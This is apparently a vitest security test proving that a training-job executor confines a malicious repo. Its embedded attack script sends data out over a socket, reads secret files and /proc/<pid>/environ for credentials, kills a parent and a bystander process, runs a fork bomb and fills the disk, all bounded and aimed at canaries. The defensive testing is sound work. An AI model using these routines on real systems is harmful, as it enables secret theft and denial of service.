/**
 * A malicious training repo against the local executor. Every attack first runs unconfined (the control: the same
 * script, as a plain child process of this test with this test's environment) and must succeed there, so the
 * confined run proves the confinement rather than a broken attack. Confined, each attack is stopped, the job is
 * reported as a failure, and no canary reaches the job's logs, outputs or the hub.
 *
 * Every attack is bounded so the unconfined control cannot hurt the shared machine: the fork bomb stops at 120
 * processes and kills them, the disk fill stops at 200 MiB in this test's scratch folder, the signal attack only
 * targets a `sleep` this test spawned and a throw-away `sh` parent.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detectHostIsolation } from '../../src/isolation/detect.ts';
import { processesOfUid } from '../../src/trainer/local-executor.ts';
import { datasetServer, makeRepo, scratch, startTestTrainer, textRequest, type TestTrainer, type Json } from './helpers.ts';

const CANARY_ENV = 'GOD_TRAINER_TEST_CANARY';
const CANARY_ENV_VALUE = `env-canary-${process.pid}-${Date.now()}`;
const CANARY_FILE_VALUE = `file-canary-${process.pid}-${Date.now()}`;
const HOTKEY = '5GrwvaEF5zXb26Fz9rcQpDWS57CtERHpNehXCPcNoHGKutQY';

/** One script, one attack per task id; it throws (exit ≠ 0) when the attack is blocked, as a naive miner script would. */
const ATTACK_SCRIPT = `
import { readFileSync, writeFileSync, mkdirSync, openSync, writeSync, closeSync } from 'node:fs';
import { join } from 'node:path';
import net from 'node:net';
const cfg = JSON.parse(readFileSync(new URL('../attack.json', import.meta.url), 'utf8'));
const argv = process.argv.slice(2);
const arg = (n) => argv[argv.indexOf(n) + 1];
const task = arg('--task-id');
const out = join(arg('--checkpoints-dir'), task, arg('--expected-repo-name'));
const leak = (what) => { mkdirSync(out, { recursive: true }); writeFileSync(join(out, 'loot.txt'), String(what)); console.log('LEAK', what); };
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
switch (task) {
  case 'attack-network': {
    const sock = net.connect(cfg.port, '127.0.0.1');
    await new Promise((res, rej) => { sock.once('connect', res); sock.once('error', rej); });
    sock.end('exfiltrated');
    leak('connected');
    break;
  }
  case 'attack-file':
    leak(readFileSync(cfg.canaryFile, 'utf8'));
    break;
  case 'attack-env': {
    let found = process.env[cfg.canaryEnv];
    if (!found) { try { found = readFileSync('/proc/' + cfg.trainerPid + '/environ', 'utf8').split('\\0').find((l) => l.startsWith(cfg.canaryEnv + '=')); } catch {} }
    if (!found) throw new Error('EnvError: no canary in the environment (' + Object.keys(process.env).join(',') + ')');
    leak(found);
    break;
  }
  case 'attack-signal': {
    const hit = [];
    for (const pid of [cfg.victimPid, process.ppid]) {
      if (pid > 1) { try { process.kill(pid, 'SIGKILL'); hit.push(pid); } catch (e) { console.log('kill', pid, e.code); } }
    }
    if (!hit.length) throw new Error('SignalError: could not signal anyone');
    leak('killed ' + hit.join(','));
    break;
  }
  case 'attack-fork': {
    const { spawn } = await import('node:child_process');
    const kids = [];
    try {
      for (let i = 0; i < cfg.forkCount; i++) {
        const c = spawn('sleep', ['30'], { stdio: 'ignore' });
        await new Promise((res, rej) => { c.once('spawn', res); c.once('error', rej); });
        kids.push(c);
      }
    } finally {
      console.log('spawned', kids.length);
      for (const c of kids) c.kill('SIGKILL');
    }
    leak('forked ' + kids.length);
    break;
  }
  case 'attack-disk': {
    mkdirSync(out, { recursive: true });
    const fd = openSync(join(out, 'fill.bin'), 'w');
    const mb = Buffer.alloc(1 << 20, 7);
    for (let i = 0; i < cfg.fillMb; i++) { writeSync(fd, mb); if (i % 16 === 0) await sleep(1); }
    closeSync(fd);
    console.log('LEAK wrote', cfg.fillMb, 'MiB');
    break;
  }
  case 'attack-deadline':
    console.log('never finishing');
    await sleep(cfg.sleepMs);
    leak('outlived the deadline');
    break;
  default:
    throw new Error('unknown attack ' + task);
}
`;

const host = detectHostIsolation();
let root: string;
let trainer: TestTrainer;
let trainerNoPermission: TestTrainer;
let data: Awaited<ReturnType<typeof datasetServer>>;
let repo: { path: string; commit: string };
let listener: net.Server;
let connections = 0;
let victim: ChildProcess;
const cfg: Record<string, unknown> = {};

function expectNoCanary(text: string): void {
  expect(text).not.toContain(CANARY_ENV_VALUE);
  expect(text).not.toContain(CANARY_FILE_VALUE);
}

/** The control: the same script and arguments, unconfined, as a child of a throw-away `sh` (its "parent"). */
function runUnconfined(task: string, timeoutMs = 20_000): Promise<{ code: number | null; signal: string | null; out: string; shKilled: boolean; ckpt: string }> {
  const ckpt = join(root, 'control', task);
  mkdirSync(ckpt, { recursive: true });
  const args = [join(repo.path, 'scripts/text_trainer.mjs'), '--task-id', task, '--expected-repo-name', 'ctl', '--cache-dir', join(root, 'control'), '--checkpoints-dir', ckpt];
  const quoted = [process.execPath, ...args].map((a) => `'${a}'`).join(' ');
  return new Promise((resolve) => {
    const child = spawn('/bin/sh', ['-c', `${quoted}; echo "exit=$?"`], { env: { ...process.env }, stdio: ['ignore', 'pipe', 'pipe'], detached: true });
    let out = '';
    child.stdout.on('data', (c: Buffer) => (out += c.toString()));
    child.stderr.on('data', (c: Buffer) => (out += c.toString()));
    // The whole group: an orphaned script would otherwise keep the pipes (and this promise) open.
    const timer = setTimeout(() => process.kill(-child.pid!, 'SIGKILL'), timeoutMs);
    child.once('close', (code, signal) => {
      clearTimeout(timer);
      const m = /exit=(\d+)/.exec(out);
      resolve({ code: m ? Number(m[1]) : code, signal, out, shKilled: signal === 'SIGKILL', ckpt });
    });
  });
}

async function runConfined(t: TestTrainer, task: string, hours = 4): Promise<{ job: Json; text: string }> {
  const req = textRequest({ repo: repo.path, commit: repo.commit, taskId: task, hotkey: HOTKEY, datasetUrl: `${data.url}/train.json`, gpuIds: [0], hours });
  const start = await t.call('POST', '/v1/trainer/start_training', req);
  expect(start.status, JSON.stringify(start.body)).toBe(200);
  const job = await t.waitDone(task, HOTKEY, 30_000);
  const details = await t.call('GET', `/v1/trainer/${task}?hotkey=${HOTKEY}`);
  const hubRepo = await t.hub.snapshot(`rayonlabs/${req.training_data.expected_repo_name}`);
  const text = JSON.stringify([job, details.body]);
  // Nothing published, nothing of the canaries anywhere the job's output can reach.
  expect(hubRepo).toBeNull();
  expectNoCanary(text);
  return { job, text };
}

beforeAll(async () => {
  process.env[CANARY_ENV] = CANARY_ENV_VALUE;
  root = scratch('god-trainer-sec-');
  listener = net.createServer((s) => {
    connections++;
    s.destroy();
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  victim = spawn('sleep', ['300'], { stdio: 'ignore' });
  const canaryFile = join(root, 'canary-secret.txt');
  writeFileSync(canaryFile, CANARY_FILE_VALUE, { mode: 0o644 });
  Object.assign(cfg, {
    port: (listener.address() as AddressInfo).port,
    canaryFile,
    canaryEnv: CANARY_ENV,
    trainerPid: process.pid,
    victimPid: victim.pid,
    forkCount: 120,
    fillMb: 200,
    sleepMs: 15_000,
  });
  repo = makeRepo(root, 'malicious', { 'scripts/text_trainer.mjs': ATTACK_SCRIPT, 'attack.json': JSON.stringify(cfg) });
  data = await datasetServer({ 'train.json': '[]' });
  const common = { localRoots: [root], overrides: { limits: { outputMaxBytes: 16 * 1024 * 1024, msPerHour: 1000 } } };
  trainer = await startTestTrainer({ dataDir: join(root, 'state'), ...common, gpus: '1xH100' });
  // The fork bomb needs child_process, which the permission model already refuses; this trainer leaves that layer
  // off to show that the pids cgroup and RLIMIT_NPROC hold on their own.
  trainerNoPermission = await startTestTrainer({
    dataDir: join(root, 'state-noperm'),
    ...common,
    gpus: '1xH100',
    overrides: { ...common.overrides, local: { memoryMb: 512, pids: 40, nofile: 256, fileMaxBytes: 64 * 1024 * 1024, privateTmpMb: 8, outputPollMs: 50, allowWorkers: true, uidBase: 230_000, uidSlots: 4, disable: ['nodePermission'], engine: false } },
  });
});

afterAll(async () => {
  await trainer?.close();
  await trainerNoPermission?.close();
  await data?.close();
  listener?.close();
  victim?.kill('SIGKILL');
  delete process.env[CANARY_ENV];
  if (root) rmSync(root, { recursive: true, force: true });
});

describe('a malicious training repo is contained (local executor)', () => {
  it('reports the isolation layers that are active on this machine', () => {
    // Printed so the test log records what was actually proven here.
    console.log(JSON.stringify(trainer.service.isolation(), null, 1));
    expect(host.namespaces?.net).toBe(true);
    expect(host.userSwitch).toBe(true);
    expect(host.permissionFlag).not.toBeNull();
  });

  it('network: reaches a loopback listener unconfined; confined it cannot connect', async () => {
    const control = await runUnconfined('attack-network');
    expect(control.code, control.out).toBe(0);
    expect(connections).toBe(1);
    const { job } = await runConfined(trainer, 'attack-network');
    expect(job.status).toBe('failure');
    expect(job.error).toMatch(/ENETUNREACH|ECONNREFUSED|EACCES/);
    expect(connections).toBe(1);
  });

  it('file: reads a canary outside its folders unconfined; confined it is denied', async () => {
    const control = await runUnconfined('attack-file');
    expect(control.out).toContain(`LEAK ${CANARY_FILE_VALUE}`);
    const { job } = await runConfined(trainer, 'attack-file');
    expect(job.status).toBe('failure');
    expect(job.error).toMatch(/ERR_ACCESS_DENIED|Access to this API has been restricted|EACCES/);
  });

  it("environment: reads the trainer's secrets unconfined (env and /proc); confined the environment is empty", async () => {
    const control = await runUnconfined('attack-env');
    expect(control.out).toContain(CANARY_ENV_VALUE);
    const { job } = await runConfined(trainer, 'attack-env');
    expect(job.status).toBe('failure');
    expect(job.error).toContain('EnvError: no canary in the environment (CUDA_VISIBLE_DEVICES)');
  });

  it('signals: kills its parent and a bystander unconfined; confined it reaches neither', async () => {
    const bystander = spawn('sleep', ['300'], { stdio: 'ignore' });
    cfg.victimPid = bystander.pid;
    writeFileSync(join(repo.path, 'attack.json'), JSON.stringify(cfg));
    const control = await runUnconfined('attack-signal');
    expect(control.shKilled).toBe(true);
    await new Promise((r) => setTimeout(r, 100));
    expect(bystander.exitCode !== null || bystander.signalCode === 'SIGKILL').toBe(true);
    // The confined run uses the committed config (the clone), whose victim is the long-lived `victim` sleep.
    const { job } = await runConfined(trainer, 'attack-signal');
    expect(job.status).toBe('failure');
    expect(job.error).toContain('SignalError');
    expect(victim.exitCode).toBeNull();
    expect(victim.signalCode).toBeNull();
    expect(process.kill(victim.pid!, 0)).toBe(true);
  });

  it('fork bomb: spawns 120 processes unconfined; confined the permission model refuses, and without it the pids limit does', async () => {
    const control = await runUnconfined('attack-fork');
    expect(control.out).toContain('spawned 120');
    expect(control.code).toBe(0);
    const blocked = await runConfined(trainer, 'attack-fork');
    expect(blocked.job.status).toBe('failure');
    expect(blocked.job.error).toMatch(/ERR_ACCESS_DENIED|Access to this API has been restricted/);
    const limited = await runConfined(trainerNoPermission, 'attack-fork');
    expect(limited.job.status).toBe('failure');
    const spawned = Number(/spawned (\d+)/.exec(limited.job.output_tail.join('\n'))?.[1]);
    expect(spawned).toBeLessThan(40);
    expect(limited.job.output_tail.join('\n')).toMatch(/EAGAIN/);
    // Nothing of either job is left running.
    expect(processesOfUid(230_000)).toEqual([]);
  });

  it('disk: writes 200 MiB unconfined; confined it is killed at the output limit', async () => {
    const control = await runUnconfined('attack-disk');
    expect(control.out).toContain('LEAK wrote 200 MiB');
    rmSync(control.ckpt, { recursive: true, force: true });
    const { job } = await runConfined(trainer, 'attack-disk');
    expect(job.status).toBe('failure');
    expect(job.error).toMatch(/size limit|File size limit|SIGXFSZ/);
    expect(existsSync(join(trainer.dataDir, 'jobs'))).toBe(true);
  });

  it('deadline: runs past its budget unconfined; confined it is killed at the deadline', async () => {
    const control = await runUnconfined('attack-deadline', 3000);
    expect(control.out).toContain('never finishing');
    expect(control.out).not.toContain('exit=');
    const { job } = await runConfined(trainer, 'attack-deadline', 2);
    expect(job.status).toBe('failure');
    expect(job.error).toContain('deadline');
    expect(job.output_tail.join('\n')).not.toContain('outlived');
    // Killed within a few seconds of its 2 s budget (the script would sleep 15 s).
    const ran = Date.parse(job.logs.at(-1).slice(1, 25)) - Date.parse(job.logs.find((l: string) => l.includes('starting scripts/')).slice(1, 25));
    expect(ran).toBeGreaterThanOrEqual(2000);
    expect(ran).toBeLessThan(6000);
  });
});
